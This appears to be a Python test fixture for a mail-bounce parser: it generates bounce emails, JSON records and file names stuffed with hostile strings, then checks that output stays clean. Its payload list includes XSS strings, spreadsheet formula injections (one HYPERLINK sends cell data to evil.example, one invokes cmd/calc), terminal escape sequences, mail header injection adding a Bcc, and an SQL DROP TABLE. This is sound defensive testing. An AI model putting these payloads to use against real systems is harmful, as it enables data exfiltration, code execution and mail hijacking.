#!/usr/bin/env python3
"""safety.py - bounces in which every field that a stranger can set is hostile, and judges of what is written of them.

usage: safety.py write DIRECTORY        mails: DIRECTORY/fields/NAME.eml (one hostile field each), DIRECTORY/all/NAME.eml
                                        (all of them), DIRECTORY/harmless.eml; lines of JSON: DIRECTORY/records.jsonl
       safety.py paths DIRECTORY        the same mail in files and mailboxes of hostile names; their names, NUL behind each
       safety.py names                  hostile words, NUL behind each
       safety.py judge KIND FILE [HARMLESS]     is FILE, which is KIND (text, json, csv, html, mail, list, postfix, sql), harmless?

HARMLESS is the same of words that do nothing: what is not text (elements, attributes, header fields) must be the same.

SPDX-License-Identifier: BSD-2-Clause
"""
import csv
import email
import email.policy
import html.parser
import io
import json
import os
import re
import sqlite3
import sys
import unicodedata

# Stands in every hostile word, so that a test can see that it came through at all.
MARK = "zqz"

# What it is, and the word as a stranger writes it.  No line ends but those that are the attack.
WORDS = {
    "csi": "\x1b[2J\x1b[31m zqz \x1b[6n",
    "title": "\x1b]0;zqz\x07",
    "osc8": "\x1b]8;;https://evil.example/\x1b\\zqz\x1b]8;;\x1b\\",
    "dcs": "\x1bP$q zqz\x1b\\\x1bPzqz",
    "bell-backspace": "zqz\a\b\b\b\x7f\x0b\x0c\x0e",
    "c1-utf8": "\x9b31m zqz \x90x\x9c \x85 \x9dx",
    "c1-raw": b"\x9b31m zqz \x90x\x9c \x85",
    "override": "zqz \u202emoc.elpmaxe@\u202d \u202a\u202b\u202c",
    "isolate": "zqz \u2066\u2067\u2068\u2069 \u200e\u200f\u061c",
    "invisible": "z\u200bqz \u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\uffa0\u180e zqz",
    "tags": "zqz \U000e0041\U000e0042\U000e007f \ufff9\ufffb \U000e0001",
    "line-ends": "zqz \u2028 \u2029 x",
    "no-characters": b"zqz \xef\xbf\xbf \xef\xb7\x90 \xf4\x8f\xbf\xbf",
    "formula-equals": '=HYPERLINK("http://evil.example/?zqz="&A1,"zqz")',
    "formula-plus": "+zqz|' /C calc'!A0",
    "formula-minus": "-zqz+cmd|x",
    "formula-at": "@SUM(1+zqz)",
    "formula-blank": "  =zqz()",
    "formula-wide": "\uff1dzqz()",
    "script": "<script>alert('zqz')</script>",
    "picture": "<img src=x onerror=alert('zqz')>",
    "svg": '"><svg onload=alert(1)><a xlink:href="javascript:zqz">zqz</a></svg>',
    "attribute": "zqz' onmouseover='alert(1)' x=\" onclick=\"alert(1)",
    "comment": "zqz <!-- --!> ]]> <![CDATA[ <?x ?> </style><style>*{display:none}</style></title><plaintext>",
    "entity": "&lt;b&gt;zqz&#x202e;&#27;[2J&zqz;",
    "link": "https://evil.example/zqz?\"onclick=\"x javascript:alert(1) http://evil.example/",
    "encoded-lines": "=?utf-8?q?zqz=0D=0ABcc:_evil@evil.example=0D=0A=0D=0A<b>?=",
    "encoded-escape": "=?utf-8?q?zqz=1B[2J=C2=9B31m?= =?utf-8?b?4oCuenF6?=",
    "nul": "zqz\0zqz",
    "no-utf8": b"zqz \xff\xfe\xc3\x28\xe2\x82 \xc0\xaf \xed\xa0\x80 \xf8\x88\x80\x80\x80 \xe3",
    "half": b"zqz \xe3\x81",
    "cr": "zqz\rzqz\rBcc: evil@evil.example",
    "lines": "zqz\nX-Evil: yes\r\nBcc: evil@evil.example",
    "quotes": "zqz'); DROP TABLE modori_suppressed; -- \" \\ ' \\' `zqz`",
    "map": "zqz DISCARD # \\ OK\tREJECT",
    "braces": "{zqz} {recipient} %s%n%1$s $(zqz) `zqz` ${zqz}",
}
HARMLESS = "zqz words"

# Mails with {FIELD} where a stranger's word stands.  A field's second value is what stands there else.
FIELDS = {
    "from": "MAILER-DAEMON@mx.example.com", "to": "shop@example.jp", "subject": "Undelivered Mail", "queue": "4XyZ1a2b3c",
    "return-path": "news-bounces+hanako=example.net@lists.example.jp", "message-id": "<1@mx.example.com>",
    "reporting-mta": "mx.example.com", "arrival": "Sat, 21 Nov 2026 09:29:58 +0900", "final": "hanako@example.net",
    "original": "all@example.net", "action": "failed", "status": "5.1.1", "remote": "mx.example.net",
    "diagnostic": "550 5.1.1 User unknown", "field": "words", "prose": "The mail failed.", "client": "192.0.2.1",
    "returned-from": "shop@example.jp", "returned-subject": "News", "list-id": "news.lists.example.jp", "returned-id": "<2@example.jp>",
    "received": "mail.example.jp", "dkim": "s1", "auth": "spf=fail", "date": "Sat, 21 Nov 2026 09:29:50 +0900",
    "agent": "Mail/1", "feedback": "abuse",
}
RETURNED = """Return-Path: <{return-path}>
Received: from {received} ({received} [{client}]) by mx.example.com with ESMTP id {queue}
	for <{final}>; {date}
DKIM-Signature: v=1; a=rsa-sha256; d=example.jp; s={dkim}; h=from; bh=x; b=y
Authentication-Results: mx.example.com; {auth}
From: {returned-from}
To: {final}
Message-ID: {returned-id}
List-Id: <{list-id}>
Date: {date}
Subject: {returned-subject}

{prose}
"""
FORMS = {
    "dsn": """Return-Path: <>
From: {from}
To: {to}
Date: {date}
Message-ID: {message-id}
Subject: {subject}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="b"

--b

{prose}

--b
Content-Type: message/delivery-status

Reporting-MTA: dns; {reporting-mta}
X-Queue-ID: {queue}
X-Sender: rfc822; {returned-from}
Arrival-Date: {arrival}

Final-Recipient: rfc822; {final}
Original-Recipient: rfc822; {original}
Action: {action}
Status: {status}
Remote-MTA: dns; {remote}
X-Field: {field}
Diagnostic-Code: smtp; 550 5.7.1 {diagnostic}

--b
Content-Type: message/rfc822

""" + RETURNED + "\n--b--\n",
    "feedback": """From: {from}
To: {to}
Date: {date}
Subject: {subject}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=feedback-report; boundary="b"

--b

{prose}

--b
Content-Type: message/feedback-report

Feedback-Type: {feedback}
User-Agent: {agent}
Version: 1
Original-Rcpt-To: {final}
Original-Mail-From: {returned-from}
Source-IP: {client}
Reported-Domain: {remote}
Arrival-Date: {arrival}

--b
Content-Type: message/rfc822

""" + RETURNED + "\n--b--\n",
    "prose": """Return-Path: <>
From: {from}
To: {to}
Date: {date}
Subject: {subject}

This is the mail system at host {reporting-mta}.

<{final}> (expanded from <{original}>): host {remote}[192.0.2.25] said: 550 5.7.1 {diagnostic}
    (in reply to RCPT TO command)

--- Below this line is a copy of the message.

""" + RETURNED,
    "wording": """Return-Path: <>
From: {from}
To: {to}
Date: {date}
Subject: {subject}

Your message "{returned-subject}" could not be delivered to {final} by {remote}:
550 5.1.1 {diagnostic}
""",
    "html": """Return-Path: <>
From: {from}
To: {to}
Date: {date}
Subject: {subject}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p>Your message could not be delivered to <b>{final}</b>.</p>
<p>{remote} said: 550 5.1.1 {diagnostic} &#27;[2J&#x9b;31m&#x202e;zqz&lt;script&gt;</p></body></html>
""",
}
# A bounce of all of its values, as a line of JSON.
RECORD = {
    "v": 1, "id": "", "report": "delivery", "action": "failed", "recipient": "a@example.org", "original_recipient": "", "sender": "",
    "reason": "userunknown", "bounce": "hard", "status": "5.1.1", "reply_code": "550", "command": "RCPT TO", "diagnostic": "",
    "remote_mta": "", "remote_ip": "", "provider": "", "queue_id": "", "blocklist": "", "reporting_mta": "", "client_ip": "",
    "dialect": "", "rule": "", "sender_kind": "", "advice": "", "hint": "", "feedback_type": "", "message_id": "", "from": "a@example.jp",
    "subject": "", "date": "2026-11-20T09:00:00Z", "list_id": "", "arrival_date": "2026-11-21T09:00:00Z", "path": "", "verp_recipient": "",
}


def raw(word):
    """WORD as bytes."""
    return word if isinstance(word, bytes) else word.encode("utf-8", "surrogatepass")


def filled(form, values):
    """The mail FORM with VALUES, FIELDS where there is none."""
    parts = re.split(r"\{([a-z-]+)\}", FORMS[form])
    return b"".join(raw(values.get(part, FIELDS[part])) if i % 2 else raw(part) for i, part in enumerate(parts))


def everywhere(word):
    """WORD in all fields; in some behind what makes a value of that kind of it."""
    before = {"final": b"", "original": b"x", "action": b"failed ", "status": b"5.1.1 ", "date": FIELDS["date"].encode() + b" ",
              "feedback": b"abuse "}
    behind = {"final": b"@example.net", "original": b"@example.net", "returned-from": b" <a@example.jp>", "return-path": b"=x@y.example"}
    return {field: before.get(field, b"") + raw(word) + behind.get(field, b"") for field in FIELDS}


def put(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as out:
        out.write(data)


def write(directory):
    for name, word in [("harmless", HARMLESS)] + list(WORDS.items()):
        for form in FORMS:
            values = everywhere(word)
            put(f"{directory}/{'harmless' if name == 'harmless' else 'all'}/{name}-{form}.eml", filled(form, values))
            if name == "harmless":
                continue
            for field in FIELDS:
                if "{" + field + "}" in FORMS[form]:
                    put(f"{directory}/fields/{name}-{form}-{field}.eml", filled(form, {field: values[field]}))
    write_records(f"{directory}/records.jsonl", list(WORDS.values()))
    write_records(f"{directory}/harmless.jsonl", [HARMLESS] * len(WORDS))


def record(number, values):
    """A line of JSON; a lone surrogate stays one."""
    return json.dumps(dict(RECORD, id="%032x" % number, message_id="<%d@example.jp>" % number, **values)) + "\n"


def write_records(path, words):
    lines, number = [], 0
    for word in words + ["zqz \ud800 \udc00\ud800 x\udfff"]:
        text = word if isinstance(word, str) else word.decode("latin-1")
        values = {key: text for key in RECORD if key not in ("v", "id", "report", "message_id", "date", "arrival_date")}
        for change in (values, dict(values, recipient=text + "@example.org", action="failed", bounce="hard", reason="userunknown"),
                       dict(values, recipient="b%d@example.org" % number, action="", bounce="soft"),
                       dict(values, recipient="c@" + text, action="failed", bounce="soft", reason="blocked", rule="")):
            number += 1
            lines.append(record(number, {key: value for key, value in change.items() if key != "message_id"}))
        number += 1
        lines.append(record(number, {"recipient": text + "@example.net", "diagnostic": text, "provider": text}))
    put(path, "".join(lines).encode())
    with open(path, "ab") as out:                               # what json.dumps would not write
        out.write(b'{"v":1,"id":"\\ud83d","recipient":"\\ud800zqz@example.org","report":"delivery","bounce":"hard"}\n'
                  b'{"v":1,"recipient":"zqz\\u0000x@example.org","report":"delivery","bounce":"hard","diagnostic":"\xff\xfe"}\n')


def paths(directory):
    """Hostile names that the system lets be: no slash, no NUL, at most 200 bytes."""
    mail = filled("dsn", {})
    names = []
    for name, word in WORDS.items():
        word = raw(word).replace(b"/", b"_").replace(b"\0", b"_")[:200]
        folder = directory.encode() + b"/" + word
        for path in (folder + b".eml", folder + b".dir/new/1." + word[:150], folder + b".d/" + word[:150]):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            for sub in (b"cur", b"tmp"):
                if path.startswith(folder + b".dir/"):
                    os.makedirs(folder + b".dir/" + sub, exist_ok=True)
            with open(path, "wb") as out:
                out.write(mail)
        with open(folder + b".gz", "wb") as out:                # damaged: something is said of it
            out.write(b"\x1f\x8b\x08\0\0\0\0\0\0\0 no deflate")
        names += [folder + b".eml", folder + b".dir", folder + b".d", folder + b".gz", folder + b".missing"]
    sys.stdout.buffer.write(b"\0".join(names) + b"\0")


def names():
    sys.stdout.buffer.write(b"\0".join(raw(word).replace(b"\0", b"_") for word in WORDS.values()) + b"\0")


# --- judges ---

def harmful(text, allowed="\n"):
    """What of TEXT does something to a terminal, or to how the text around it is shown."""
    found = set()
    for c in text:
        kind = unicodedata.category(c)
        hidden = c in "\u034f\u115f\u1160\u3164\uffa0" or 0xfdd0 <= ord(c) <= 0xfdef or ord(c) & 0xfffe == 0xfffe
        if c not in allowed and (kind in ("Cc", "Cf", "Zl", "Zp", "Cs") or hidden or 0xe0000 <= ord(c) <= 0xe0fff):
            found.add("U+%04X" % ord(c))
    return sorted(found)


def read(path):
    """The text of the file PATH, which must be UTF-8."""
    with open(path, "rb") as file:
        return file.read().decode("utf-8")


def must(truth, *words):
    if not truth:
        raise SystemExit(" ".join(str(word) for word in words))


def judge_text(path, other=None):
    text = read(path)
    must(not harmful(text), "harmful:", harmful(text))
    return text


def judge_json(path, other=None):
    text = judge_text(path)
    for line in text.splitlines() if text.startswith('{"') and "}\n{" in text else [text]:
        value = json.loads(line)
        must(isinstance(value, (dict, list)), "no object:", line)
        json.dumps(value, ensure_ascii=False).encode("utf-8")   # no lone surrogate in it


def is_formula(cell):
    return cell.lstrip(" ")[:1] in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def judge_csv(path, other=None):
    text = read(path)
    must(not harmful(text, "\r\n"), "harmful:", harmful(text, "\r\n"))
    must(text.count("\r") == text.count("\r\n") == text.count("\n"), "a line end that is none")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    must(len(rows) == text.count("\r\n"), "rows:", len(rows), "lines:", text.count("\r\n"))
    must(len(rows) > 1 and len({len(row) for row in rows}) == 1, "cells:", {len(row) for row in rows})
    for row in rows:
        must(not any(is_formula(cell) for cell in row), "a formula:", row)
    if other:
        must(len(rows[0]) == len(next(csv.reader(open(other, newline="")))), "another number of columns")


class Shape(html.parser.HTMLParser):
    """The elements and attributes of a page, and its texts."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.seen, self.texts, self.open, self.links = set(), [], [], []
        self.feed(text)
        self.close()
        must(not self.open, "not closed:", self.open)

    def handle_starttag(self, tag, attributes):
        must(tag not in ("script", "iframe", "object", "embed", "form", "base", "img", "image", "foreignobject"), "element:", tag)
        for name, value in attributes:
            must(not name.startswith("on"), "handler:", tag, name, value)
            must(not harmful(value or "", ""), "harmful in", name)
            must(not re.match(r"\s*(javascript|data|vbscript):", value or "", re.I), "link:", value)
            if name in ("href", "src", "xlink:href", "action", "style", "http-equiv", "id"):
                self.links.append((tag, name, value))
            self.seen.add((tag, name))
        self.seen.add((tag, None))
        if tag not in ("meta", "br", "link", "col", "input", "wbr"):
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)
        self.handle_endtag(tag)

    def handle_endtag(self, tag):
        must(self.open and self.open[-1] == tag, "ends out of turn:", tag, self.open)
        self.open.pop()

    def handle_data(self, data):
        must(not harmful(data), "harmful:", harmful(data))
        self.texts.append(data)

    def handle_comment(self, data):
        raise SystemExit("a comment: " + data)

    def handle_pi(self, data):
        raise SystemExit("an instruction: " + data)

    def unknown_decl(self, data):
        raise SystemExit("a declaration: " + data)


def judge_page(text, other):
    shape, harmless = Shape(text), Shape(other)
    must(shape.seen <= harmless.seen, "not of ours:", sorted(shape.seen - harmless.seen, key=str))
    for tag, name, value in shape.links:
        must(tag != "a" or name != "href" or value.startswith(("https://", "#")), "link:", value)
    must("zqz" in " ".join(shape.texts), "nothing of the stranger's is in it")


def judge_html(path, other):
    judge_page(read(path), read(other))


def parsed(path):
    with open(path, "rb") as file:
        return email.message_from_bytes(file.read(), policy=email.policy.default)


def judge_mail(path, other):
    mail, harmless = parsed(path), parsed(other)
    must(not mail.defects, mail.defects)
    must(list(mail.keys()) == list(harmless.keys()), "header:", list(mail.keys()), list(harmless.keys()))
    for name, value in mail.items():
        must(not harmful(str(value), ""), "harmful in", name)
    parts, others = list(mail.walk()), list(harmless.walk())
    must([part.get_content_type() for part in parts] == [part.get_content_type() for part in others], "parts:", parts)
    for part, twin in zip(parts, others):
        must(not part.defects and list(part.keys()) == list(twin.keys()), part.defects, list(part.keys()))
        if part.get_content_type() == "text/plain":
            must(not harmful(part.get_content()), "harmful:", harmful(part.get_content()))
        elif part.get_content_type() == "text/html":
            judge_page(part.get_content(), twin.get_content())
    with open(path, "rb") as file:
        must(all(len(line.rstrip(b"\r\n")) <= 998 for line in file), "a line over 998 bytes")


def judge_list(path, other=None):
    for line in judge_text(path).splitlines():
        must("@" in line, "no address:", line)


def judge_postfix(path, other=None):
    text = read(path)
    must(not harmful(text, "\n\t"), "harmful:", harmful(text, "\n\t"))
    for line in text.replace("\t", " ", text.count("\n")).splitlines():
        must(re.fullmatch(r"#.*|[^\s#\"\\]+@[^\s\"\\]+ 550 5\.[17]\.1 [a-z: -]+ since [0-9-]+", line), "no line of a map:", line)


def judge_sql(path, other=None):
    text = judge_text(path)
    must("\\" not in re.sub(r"^--.*$", "", text, flags=re.M), "a backslash, which some databases read")
    db = sqlite3.connect(":memory:")
    db.executescript("CREATE TABLE witness (x); INSERT INTO witness VALUES (1);" + text)
    must([row[0] for row in db.execute("SELECT name FROM sqlite_master ORDER BY name")] == ["modori_suppressed", "witness"], "tables")
    written = text.count("\nINSERT INTO modori_suppressed VALUES (")
    must(db.execute("SELECT count(*) FROM modori_suppressed").fetchone()[0] == written > 1, "rows:", written)


JUDGES = {"text": judge_text, "json": judge_json, "csv": judge_csv, "html": judge_html, "mail": judge_mail, "list": judge_list,
          "postfix": judge_postfix, "sql": judge_sql}


def main():
    if sys.argv[1:2] == ["write"]:
        write(sys.argv[2])
    elif sys.argv[1:2] == ["paths"]:
        paths(sys.argv[2])
    elif sys.argv[1:2] == ["names"]:
        names()
    elif sys.argv[1:2] == ["judge"]:
        path = sys.argv[3]
        try:
            must(os.path.getsize(path), "nothing was written")
            JUDGES[sys.argv[2]](path, *sys.argv[4:5])
        except (ValueError, csv.Error, sqlite3.Error) as error:
            raise SystemExit(f"{path}: {error}")
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
